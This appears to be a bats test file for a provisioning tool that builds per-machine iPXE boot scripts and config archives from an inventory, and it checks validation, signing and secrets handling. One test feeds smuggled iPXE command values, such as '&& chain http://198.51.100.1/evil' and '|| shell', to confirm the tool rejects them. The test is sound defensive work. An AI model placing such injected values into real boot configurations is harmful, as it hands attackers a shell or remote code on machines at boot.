#!/usr/bin/env bats
# `make machines`: an inventory in, per-machine boot files out, checked as an
# operator would. Documentation prefixes only.

load '/usr/lib/bats/bats-support/load'
load '/usr/lib/bats/bats-assert/load'

setup_file() {
	export OUTDIR=${FATHOM_OUT:-$BATS_TEST_DIRNAME/../../out}
	export BOARD=${FATHOM_BOARD:-qemu-x86_64}
	export TOP=$BATS_TEST_DIRNAME/../..
	export BASE=http://192.0.2.1/fathom
	export INV=$BATS_FILE_TMPDIR/fleet.csv
	# 1,000 machines, 16 per /28 spread over the three documentation /24s.
	awk 'BEGIN {
		split("192.0.2 198.51.100 203.0.113", net, " ")
		print "hostname,mac,ipv4,ipv4_gateway,ipv4_dns,ipv6,ipv6_gateway,drac_ipv4"
		for (i = 0; i < 1000; i++) {
			p = net[int(i / 16) % 3 + 1]; base = (int(i / 48) % 16) * 16
			printf "m%04d.example.org,52:54:00:00:%02x:%02x,%s.%d/28,%s.%d,\"%s.%d; 198.51.100.53\",2001:db8:%x::10/64,2001:db8:%x::1,\"%s.%d/28,%s.%d\"\n",
				i, int(i / 256), i % 256, p, base + 2 + i % 12, p, base + 1, p, base + 14,
				i, i, p, base + 15, p, base + 1
		}
	}' > "$INV"
	export MACHINES=$OUTDIR/$BOARD/machines
	# Leave $OUTDIR as we found it: scripts/verify flags unlisted files there.
	[ ! -e "$MACHINES" ] || touch "$BATS_FILE_TMPDIR/machines-existed"
	make -C "$TOP" O="$OUTDIR" BOARD="$BOARD" INVENTORY="$INV" BASE_URL="$BASE" machines \
		> "$BATS_FILE_TMPDIR/make.log" 2>&1 || { cat "$BATS_FILE_TMPDIR/make.log" >&2; return 1; }
}

# A new O= holding the image already built: machines/ needs the image
# beside it (make builds it first otherwise), and what is tested here is
# machines/, so make finds the image up to date instead of building it again.
image_in() {
	mkdir -p "$1"
	cp -a "$OUTDIR/build" "$OUTDIR/$BOARD" "$1/"
	rm -rf "$1/$BOARD/machines"
}

teardown_file() {
	[ -e "$BATS_FILE_TMPDIR/machines-existed" ] || rm -rf "$MACHINES"
}

@test "1,000 rows give 1,000 machine directories with boot.ipxe, network.conf and config.cpio" {
	run sh -c "ls '$MACHINES' | grep -c '^m[0-9]*\.example\.org$'"
	assert_output 1000
	for h in m0000 m0017 m0500 m0999; do
		for f in boot.ipxe network.conf config.cpio; do
			[ -s "$MACHINES/$h.example.org/$f" ]
		done
	done
	[ "$(find "$MACHINES"/m*.example.org -type f | wc -l)" -ge 3000 ]
	run sh -c "find '$MACHINES' -name '*.??????' | wc -l"
	assert_output 0
}

@test "config.cpio holds /etc/fathom/network.conf, the same bytes as network.conf" {
	d=$MACHINES/m0017.example.org
	run cpio -it --quiet < "$d/config.cpio"
	assert_success
	assert_line etc
	assert_line etc/fathom
	assert_line etc/fathom/network.conf
	mkdir -p "$BATS_TEST_TMPDIR/x"
	(cd "$BATS_TEST_TMPDIR/x" && cpio -idm --quiet < "$d/config.cpio")
	cmp "$BATS_TEST_TMPDIR/x/etc/fathom/network.conf" "$d/network.conf"
	run cat "$d/network.conf"
	assert_line hostname=m0017.example.org
	assert_line iface=52:54:00:00:00:11
	assert_line ipv4=198.51.100.7/28,198.51.100.1,198.51.100.14,198.51.100.53
	assert_line ipv6=2001:db8:11::10/64,2001:db8:11::1
}

@test "boot.ipxe sets the static addresses in iPXE and boots with the same command line" {
	run cat "$MACHINES/m0017.example.org/boot.ipxe"
	assert_line --index 0 '#!ipxe'
	assert_line "set base $BASE"
	assert_line 'set net0/ip 198.51.100.7'
	assert_line 'set net0/netmask 255.255.255.240'
	assert_line 'set net0/gateway 198.51.100.1'
	assert_line 'set dns 198.51.100.14'
	assert_line 'set net0/ip6 2001:db8:11::10'
	assert_line 'set net0/len6 64'
	assert_line 'set net0/gateway6 2001:db8:11::1'
	assert_line 'ifopen net0 || goto failed'
	cmdline=$(sed -n 's/^CMDLINE=//p' "$TOP/boards/$BOARD/board.conf")
	assert_line "kernel \${base}/vmlinuz initrd=initramfs.cpio.zst initrd=config.cpio fathom.hostname=m0017.example.org fathom.ipv4=198.51.100.7/28,198.51.100.1,198.51.100.14,198.51.100.53 fathom.ipv6=2001:db8:11::10/64,2001:db8:11::1 fathom.iface=52:54:00:00:00:11 fathom.drac.ipv4=198.51.100.15/28,198.51.100.1 $cmdline || goto failed"
	assert_line 'initrd ${base}/initramfs.cpio.zst || goto failed'
	assert_line 'initrd ${base}/machines/m0017.example.org/config.cpio || goto failed'
	assert_line 'boot || goto failed'
	for s in 1 2 4 8; do assert_line "sleep $s"; done
	assert_line 'goto wait${try}'
}

@test "two runs produce identical files" {
	other=$BATS_TEST_TMPDIR/other
	image_in "$other"
	run make -C "$TOP" O="$other" BOARD="$BOARD" INVENTORY="$INV" BASE_URL="$BASE" machines
	assert_success
	for h in m0000 m0333 m0999; do
		for f in boot.ipxe network.conf config.cpio; do
			cmp "$MACHINES/$h.example.org/$f" "$other/$BOARD/machines/$h.example.org/$f"
		done
	done
	run diff -r "$MACHINES" "$other/$BOARD/machines"
	assert_success
}

@test "bad rows: each reported once with its line, the good ones still written, exit 1" {
	out=$BATS_TEST_TMPDIR/bad
	image_in "$out"
	cat > "$BATS_TEST_TMPDIR/bad.csv" <<-'CSV'
	hostname,ipv4,ipv4_gateway
	good1.example.org,192.0.2.2/28,192.0.2.1
	bad1.example.org,192.0.2.3/33,192.0.2.1
	good2.example.org,192.0.2.4/28,192.0.2.1
	# a comment
	bad_2.example.org,192.0.2.5/28,192.0.2.1
	good1.example.org,192.0.2.6/28,192.0.2.1
	good3.example.org,192.0.2.7/28,192.0.2.1
	CSV
	run make -s -C "$TOP" O="$out" BOARD="$BOARD" INVENTORY="$BATS_TEST_TMPDIR/bad.csv" \
		BASE_URL="$BASE" machines
	assert_failure
	assert_line --partial "mkmachines: $BATS_TEST_TMPDIR/bad.csv:3: fathom.ipv4: \"192.0.2.3/33,192.0.2.1\": prefix length must be 0-32"
	assert_line --partial "mkmachines: $BATS_TEST_TMPDIR/bad.csv:6: fathom.hostname: \"bad_2.example.org\":"
	assert_line --partial "mkmachines: $BATS_TEST_TMPDIR/bad.csv:7: hostname \"good1.example.org\": already on line 2"
	[ "$(printf '%s\n' "${lines[@]}" | grep -c ': fathom\.\|already on')" = 3 ]
	run ls "$out/$BOARD/machines"
	assert_output "$(printf 'IMAGE\nSHA256SUMS\nSHA256SUMS.sig\ngood1.example.org\ngood2.example.org\ngood3.example.org')"
	run cut -d' ' -f3 "$out/$BOARD/machines/SHA256SUMS"
	assert_output "$(echo IMAGE; for h in good1 good2 good3; do printf '%s\n' "$h.example.org/boot.ipxe" \
		"$h.example.org/config.cpio" "$h.example.org/network.conf"; done)"
	# Bound to the image built beside it.
	run cat "$out/$BOARD/machines/IMAGE"
	assert_output "$(cd "$out/$BOARD" && sha256sum SHA256SUMS)"
	grep -qx 'ipv4=192.0.2.2/28,192.0.2.1' "$out/$BOARD/machines/good1.example.org/network.conf"
}

@test "platform columns become platform.* lines of network.conf; a secrets file beside the inventory goes into config.cpio 0600 owned by platform, never into network.conf or a log" {
	out=$BATS_TEST_TMPDIR/plat
	image_in "$out"
	inv=$BATS_TEST_TMPDIR/site/fleet.csv
	mkdir -p "$BATS_TEST_TMPDIR/site/secrets"
	cat > "$inv" <<-'CSV'
	hostname,ipv4,ipv4_gateway,iata,uplink,probability
	p1.example.org,192.0.2.2/28,192.0.2.1,LGA,10g,0.5
	p2.example.org,192.0.2.3/28,192.0.2.1,lga,1g,
	p3.example.org,192.0.2.4/28,192.0.2.1,,,
	p4.example.org,192.0.2.5/28,192.0.2.1,lgax,,
	p5.example.org,192.0.2.6/28,192.0.2.1,,10G,
	p6.example.org,192.0.2.7/28,192.0.2.1,,,1.5
	CSV
	key=throwaway-$RANDOM$RANDOM
	(umask 077 && printf '# p1\nplatform.api-key=%s\n' "$key" > "$BATS_TEST_TMPDIR/site/secrets/p1.example.org.conf")
	# Readable by others: refused, nothing written for that machine.
	printf 'platform.api-key=%s\n' "$key" > "$BATS_TEST_TMPDIR/site/secrets/p2.example.org.conf"
	chmod 0644 "$BATS_TEST_TMPDIR/site/secrets/p2.example.org.conf"
	run make -s -C "$TOP" O="$out" BOARD="$BOARD" INVENTORY="$inv" BASE_URL="$BASE" machines
	assert_failure
	refute_output --partial "$key"
	assert_line --partial "mkmachines: $BATS_TEST_TMPDIR/site/secrets/p2.example.org.conf: refused: mode 0644 lets others than its owner read the secrets in it; chmod 600"
	assert_line --partial "mkmachines: $inv:3: p2.example.org: nothing written for it"
	assert_line --partial "mkmachines: $inv:5: iata: \"lgax\": expected the 3-letter IATA code"
	assert_line --partial "mkmachines: $inv:6: uplink: \"10G\": expected the uplink's speed as 1g, 10g, 25g, 40g or 100g"
	assert_line --partial "mkmachines: $inv:7: probability: \"1.5\": expected a number from 0 to 1"
	m=$out/$BOARD/machines
	run ls "$m"
	assert_output "$(printf 'IMAGE\nSHA256SUMS\nSHA256SUMS.sig\np1.example.org\np3.example.org')"
	run grep '^platform\.' "$m/p1.example.org/network.conf"
	assert_output "$(printf 'platform.iata=lga\nplatform.uplink=10g\nplatform.probability=0.5')"
	run grep -c '^platform\.' "$m/p3.example.org/network.conf"
	assert_output 0
	! grep -rq -- "$key" "$m"/*/network.conf "$m"/*/boot.ipxe
	# The secrets, as the archive stores them: 0600, uid and gid 102.
	run sh -c "cpio -tv --numeric-uid-gid --quiet < '$m/p1.example.org/config.cpio'"
	assert_line --regexp '^-rw------- +1 102 +102 .* etc/fathom/secrets/platform\.conf$'
	assert_line --regexp '^drwxr-xr-x .* etc/fathom/secrets$'
	mkdir -p "$BATS_TEST_TMPDIR/x"
	(cd "$BATS_TEST_TMPDIR/x" && cpio -idm --quiet --no-preserve-owner < "$m/p1.example.org/config.cpio")
	cmp "$BATS_TEST_TMPDIR/x/etc/fathom/secrets/platform.conf" "$BATS_TEST_TMPDIR/site/secrets/p1.example.org.conf"
	# The one with the key is its owner's only; the other stays as it was.
	[ "$(stat -c %a "$m/p1.example.org/config.cpio")" = 600 ]
	run cpio -it --quiet < "$m/p3.example.org/config.cpio"
	refute_output --partial secrets
	# A file with other lines is refused naming the line, not its text.
	printf 'platform.api-key=%s\nipv4=192.0.2.9/28\n' "$key" > "$BATS_TEST_TMPDIR/site/secrets/p2.example.org.conf"
	chmod 600 "$BATS_TEST_TMPDIR/site/secrets/p2.example.org.conf"
	run make -s -C "$TOP" O="$out" BOARD="$BOARD" INVENTORY="$inv" BASE_URL="$BASE" machines
	refute_output --partial "$key"
	assert_line --partial "p2.example.org.conf: line 2: expected platform.OPTION=VALUE lines only"
}

@test "iPXE commands in a row are refused with line and column, nothing written for that machine, exit 1" {
	out=$BATS_TEST_TMPDIR/inj
	printf '%s\n' 'hostname,ipv4,ipv4_dns,extra' \
		'ok1.example.org,192.0.2.2/28,192.0.2.53;192.0.2.54,fathom.mtu=9000' \
		'inj1.example.org,192.0.2.3/28,,fathom.mtu=9000 && chain http://198.51.100.1/evil' \
		'inj2.example.org,192.0.2.4/28,,quiet || shell' \
		'inj3.example.org,192.0.2.5/28,,"quiet' 'shell"' \
		'inj4.example.org,192.0.2.6/28,,x=${net0/mac}' \
		'inj5.example.org,192.0.2.7/28,192.0.2.53 && shell,' \
		'ok2.example.org,192.0.2.8/28,,' > "$BATS_TEST_TMPDIR/inj.csv"
	run "$OUTDIR/build/host/mkmachines" -o "$out" -b "$BASE" -c "console=ttyS0" "$BATS_TEST_TMPDIR/inj.csv"
	assert_failure 1
	f=$BATS_TEST_TMPDIR/inj.csv
	assert_line "mkmachines: $f:3: extra: \"fathom.mtu=9000 && chain http://198.51.100.1/evil\": must not contain '&', '|' or ';': iPXE chains commands with &&, || and ;"
	assert_line "mkmachines: $f:4: extra: \"quiet || shell\": must not contain '&', '|' or ';': iPXE chains commands with &&, || and ;"
	assert_line "mkmachines: $f:5: extra: \"quiet?shell\": must not contain control characters: a line break would end the iPXE command"
	assert_line "mkmachines: $f:7: extra: \"x=\${net0/mac}\": must not contain '\$': iPXE expands \${...}"
	assert_line "mkmachines: $f:8: ipv4_dns: \"192.0.2.53 && shell\": must not contain '&', '|' or ';': iPXE chains commands with &&, || and ;"
	assert_line "mkmachines: $f: 5 bad rows; wrote the other 2 machines"
	run ls "$out"
	assert_output "$(printf 'ok1.example.org\nok2.example.org')"
	run grep -c '&&\|shell\|net0/mac' "$out/ok1.example.org/boot.ipxe"
	assert_output 0
	grep -q '^kernel .* fathom.ipv4=192.0.2.2/28,,192.0.2.53,192.0.2.54 fathom.mtu=9000 console=ttyS0 || goto failed$' \
		"$out/ok1.example.org/boot.ipxe"
}

@test "a board CMDLINE with a line break (two CMDLINE= lines) is refused naming -c, nothing written or signed, exit 2" {
	board=$BATS_TEST_TMPDIR/board
	mkdir -p "$board"
	printf '%s\n' 'CMDLINE=console=ttyS0 quiet' 'CMDLINE=shell' > "$board/board.conf"
	key=$(dirname "$("$TOP/scripts/keys")")/fathom.key
	out=$BATS_TEST_TMPDIR/cmd
	mkdir -p "$out"
	cp "$OUTDIR/$BOARD/SHA256SUMS" "$out/"
	run env MKMACHINES="$OUTDIR/build/host/mkmachines" SIGNING_KEY="$key" \
		"$TOP/scripts/machines" "$board" "$out/build" "$out" "$INV" "$BASE"
	assert_failure 2
	assert_line "mkmachines: -c CMDLINE (the board's CMDLINE, board.conf): \"console=ttyS0 quiet?shell\": must not contain control characters: a line break would end the iPXE command"
	[ ! -e "$out/machines" ]
	for c in 'quiet && shell' 'quiet #' 'a=${x}' 'quiet \'; do
		run "$OUTDIR/build/host/mkmachines" -o "$out/direct" -b "$BASE" -c "$c" "$INV"
		assert_failure 2
		assert_output --partial "mkmachines: -c CMDLINE (the board's CMDLINE, board.conf): \"$c\": must not contain"
		[ ! -e "$out/direct" ]
	done
	run "$OUTDIR/build/host/mkmachines" -o "$out/direct" -b 'http://192.0.2.1/${x}' "$INV"
	assert_failure 2
	assert_output --partial "mkmachines: -b BASE_URL: \"http://192.0.2.1/\${x}\": must not contain '\$'"
	[ ! -e "$out/direct" ]
}

@test "a JSON inventory gives the same files as the same CSV" {
	out=$BATS_TEST_TMPDIR/json
	cat > "$BATS_TEST_TMPDIR/fleet.json" <<-'JSON'
	[ { "hostname": "j1.example.org", "ipv4": "203.0.113.2/29", "ipv4_gateway": "203.0.113.1",
	    "ipv6": "2001:db8:77::2/64", "extra": "fathom.mtu=9000" },
	  { "ipv4": "203.0.113.3/29", "hostname": "j2.example.org", "mac": "52:54:00:aa:bb:cc" } ]
	JSON
	printf '%s\n' 'hostname,ipv4,ipv4_gateway,ipv6,extra,mac' \
		'j1.example.org,203.0.113.2/29,203.0.113.1,2001:db8:77::2/64,fathom.mtu=9000,' \
		'j2.example.org,203.0.113.3/29,,,,52:54:00:aa:bb:cc' > "$BATS_TEST_TMPDIR/same.csv"
	image_in "$out"
	image_in "$out.csv"
	run make -C "$TOP" O="$out" BOARD="$BOARD" INVENTORY="$BATS_TEST_TMPDIR/fleet.json" \
		BASE_URL="$BASE" machines
	assert_success
	run make -C "$TOP" O="$out.csv" BOARD="$BOARD" INVENTORY="$BATS_TEST_TMPDIR/same.csv" \
		BASE_URL="$BASE" machines
	assert_success
	run diff -r "$out/$BOARD/machines" "$out.csv/$BOARD/machines"
	assert_success
	grep -qx 'mtu=9000' "$out/$BOARD/machines/j1.example.org/network.conf"
	grep -q 'set net0/netmask 255.255.255.248' "$out/$BOARD/machines/j2.example.org/boot.ipxe"
}

@test "scripts/machines without the image beside it says to build it first, writes nothing" {
	key=$(dirname "$("$TOP/scripts/keys")")/fathom.key
	out=$BATS_TEST_TMPDIR/noimage
	run env MKMACHINES="$OUTDIR/build/host/mkmachines" SIGNING_KEY="$key" \
		"$TOP/scripts/machines" "$TOP/boards/$BOARD" "$out/build" "$out" "$INV" "$BASE"
	assert_failure 1
	assert_output --partial "make machines: $out/SHA256SUMS: missing; build the image first (make)"
	[ ! -e "$out/machines" ]
}

@test "make machines without INVENTORY or BASE_URL says what to set" {
	run make -s -C "$TOP" O="$BATS_TEST_TMPDIR/none" BOARD="$BOARD" machines
	assert_failure
	assert_output --partial "set INVENTORY="
}

@test "machines/ is signed: verify checks every machine's files, a flipped byte or an extra file is named" {
	run "$TOP/scripts/verify" "$OUTDIR/$BOARD"
	assert_success
	assert_output --partial "OK, machines/ too"
	[ "$(wc -l < "$MACHINES/SHA256SUMS")" -ge 3000 ]
	copy=$BATS_TEST_TMPDIR/out
	cp -a "$OUTDIR/$BOARD" "$copy"
	printf x | dd of="$copy/machines/m0500.example.org/boot.ipxe" bs=1 seek=20 conv=notrunc status=none
	touch "$copy/machines/m0001.example.org/extra"
	run "$TOP/scripts/verify" "$copy"
	assert_failure 1
	assert_output --partial "$copy/machines/m0500.example.org/boot.ipxe: sha256 differs from SHA256SUMS"
	assert_output --partial "$copy/machines/m0001.example.org/extra: not listed in SHA256SUMS"
	rm "$copy/machines/SHA256SUMS.sig"
	run "$TOP/scripts/verify" "$copy"
	assert_output --partial "$copy/machines/SHA256SUMS.sig: missing; run make machines again"
}

@test "MEDIA=...: each machine's USB image and ISO carry its network.conf as fathom.conf and media.cpio.zst, iPXE media its boot.ipxe" {
	inv=$BATS_TEST_TMPDIR/two.csv
	printf '%s\n' "hostname,ipv4,ipv4_gateway,ipv6,ipv6_gateway" \
		"media-a.example.org,192.0.2.20/28,192.0.2.17,2001:db8:a::20/64,2001:db8:a::1" \
		"media-b.example.org,198.51.100.20/28,198.51.100.17,," > "$inv"
	run make -C "$TOP" O="$OUTDIR" BOARD="$BOARD" INVENTORY="$inv" BASE_URL="$BASE" \
		MEDIA="usb iso ipxe-usb ipxe-iso" machines
	assert_success
	assert_output --partial "MEDIA   $MACHINES/media-b.example.org/ipxe.iso"
	for h in media-a media-b; do
		d=$MACHINES/$h.example.org
		MTOOLS_SKIP_CHECK=1 mcopy -n -i "$d/fathom.img@@1M" ::/fathom.conf "$BATS_TEST_TMPDIR/usb.conf"
		cmp "$d/network.conf" "$BATS_TEST_TMPDIR/usb.conf"
		xorriso -osirrox on -indev "$d/fathom.iso" -extract /fathom.conf "$BATS_TEST_TMPDIR/iso.conf" 2>/dev/null
		cmp "$d/network.conf" "$BATS_TEST_TMPDIR/iso.conf"
		# The medium's drivers, the second initrd its boot loaders load.
		MTOOLS_SKIP_CHECK=1 mcopy -n -i "$d/fathom.img@@1M" ::/boot/media.cpio.zst "$BATS_TEST_TMPDIR/usb.media"
		cmp "$OUTDIR/$BOARD/media.cpio.zst" "$BATS_TEST_TMPDIR/usb.media"
		xorriso -osirrox on -indev "$d/fathom.iso" -extract /boot/media.cpio.zst "$BATS_TEST_TMPDIR/iso.media" 2>/dev/null
		cmp "$OUTDIR/$BOARD/media.cpio.zst" "$BATS_TEST_TMPDIR/iso.media"
		MTOOLS_SKIP_CHECK=1 mcopy -n -i "$d/ipxe.img@@1M" ::/boot/boot.ipxe "$BATS_TEST_TMPDIR/usb.ipxe"
		cmp "$d/boot.ipxe" "$BATS_TEST_TMPDIR/usb.ipxe"
		xorriso -osirrox on -indev "$d/ipxe.iso" -extract /boot/boot.ipxe "$BATS_TEST_TMPDIR/iso.ipxe" 2>/dev/null
		cmp "$d/boot.ipxe" "$BATS_TEST_TMPDIR/iso.ipxe"
		rm -f "$BATS_TEST_TMPDIR"/usb.* "$BATS_TEST_TMPDIR"/iso.*
	done
	# Each medium has its own ID, so a machine boots with its own stick.
	a=$(xorriso -osirrox on -indev "$MACHINES/media-a.example.org/fathom.iso" -find /boot -name 'fathom-*' 2>/dev/null)
	b=$(xorriso -osirrox on -indev "$MACHINES/media-b.example.org/fathom.iso" -find /boot -name 'fathom-*' 2>/dev/null)
	[ -n "$a" ] && [ -n "$b" ] && [ "$a" != "$b" ]
	run "$TOP/scripts/verify" "$OUTDIR/$BOARD"
	assert_success
}
